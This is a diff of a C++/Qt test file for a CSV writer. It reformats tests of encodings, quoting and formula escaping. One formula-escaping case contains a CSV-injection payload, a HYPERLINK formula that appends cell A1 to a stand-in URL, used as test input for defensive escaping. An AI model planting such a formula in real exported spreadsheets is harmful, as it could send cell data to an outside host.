@@ -36,7 +36,8 @@ TEST_F(CsvWriter, ExactBytesInEachEncoding)
     // 名前 and 部門 in CP932, no byte-order mark.
     EXPECT_EQ(written(table, CsvCharset::Cp932),
               QByteArray("\"ID\",\"\x96\xBC\x91O\",\r\n\"1\",\"\x95\x94\x96\xE5\",\r\n\"2\",\"\",\r\n"));
-    const QByteArray utf8 = kBom + QStringLiteral("\"ID\",\"名前\",\r\n\"1\",\"部門\",\r\n\"2\",\"\",\r\n").toUtf8();
+    const QByteArray utf8 =
+        kBom + QStringLiteral("\"ID\",\"名前\",\r\n\"1\",\"部門\",\r\n\"2\",\"\",\r\n").toUtf8();
     EXPECT_EQ(written(table, CsvCharset::Utf8), utf8);
     // Automatic is Unicode here, which the Linux spreadsheets open by double-click.
     EXPECT_EQ(written(table, CsvCharset::Automatic), utf8);
@@ -48,7 +49,8 @@ TEST_F(CsvWriter, ItemsAreQuotedWholeAndOnlyLinesEndInCrLf)
     const QString longText = QString(1999, QChar(0x8868)) + "終";
     const CsvTable table{{"A"}, {{"部門\"名\", 略称\r\n可"}, {"a,b"}, {"x\ny"}, {longText}}};
     EXPECT_EQ(cp932::decode(written(table, CsvCharset::Cp932)),
-              "\"A\",\r\n\"部門\"\"名\"\", 略称\r\n可\",\r\n\"a,b\",\r\n\"x\ny\",\r\n\"" + longText + "\",\r\n");
+              "\"A\",\r\n\"部門\"\"名\"\", 略称\r\n可\",\r\n\"a,b\",\r\n\"x\ny\",\r\n\"" + longText
+                  + "\",\r\n");
 }
 
 TEST_F(CsvWriter, Cp932FallsBackToUtf8WhenATextDoesNotFit)
@@ -63,15 +65,23 @@ TEST_F(CsvWriter, Cp932FallsBackToUtf8WhenATextDoesNotFit)
         EXPECT_TRUE(text.contains("\"部門\",\r\n")) << text.toStdString();
     }
     // The Windows repertoire fits CP932: ～ － ① 髙.
-    EXPECT_EQ(written({{"A"}, {{"～－①髙"}}}, CsvCharset::Cp932), QByteArray("\"A\",\r\n\"\x81`\x81|\x87@\xFB\xFC\",\r\n"));
+    EXPECT_EQ(written({{"A"}, {{"～－①髙"}}}, CsvCharset::Cp932),
+              QByteArray("\"A\",\r\n\"\x81`\x81|\x87@\xFB\xFC\",\r\n"));
 }
 
 TEST_F(CsvWriter, FormulaLikeTextsAreWrittenAsText)
 {
-    const struct { QString item, written; } cases[] = {
+    const struct {
+        QString item, written;
+    } cases[] = {
         {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")"},
-        {"+1", "'+1"}, {"-A1", "'-A1"}, {"@SUM(A1)", "'@SUM(A1)"},
-        {"-2", "-2"}, {"-1.5", "-1.5"}, {"部門=名", "部門=名"}, {"", ""},
+        {"+1", "'+1"},
+        {"-A1", "'-A1"},
+        {"@SUM(A1)", "'@SUM(A1)"},
+        {"-2", "-2"},
+        {"-1.5", "-1.5"},
+        {"部門=名", "部門=名"},
+        {"", ""},
     };
     for (const auto& c : cases)
         EXPECT_EQ(csvCellText(c.item), c.written) << c.item.toStdString();
@@ -95,6 +105,7 @@ TEST_F(CsvWriter, FormulaLikeTextsAreWrittenAsText)
     QFile f(values);
     ASSERT_TRUE(f.open(QIODevice::ReadOnly)) << convert.readAll().toStdString();
     const QString shown = QString::fromUtf8(f.readAll());
-    EXPECT_TRUE(shown.contains("=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")")) << shown.toStdString();
+    EXPECT_TRUE(shown.contains("=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")"))
+        << shown.toStdString();
     EXPECT_FALSE(shown.contains(QRegularExpression(",click(,|\\s|$)"))) << shown.toStdString();
 }
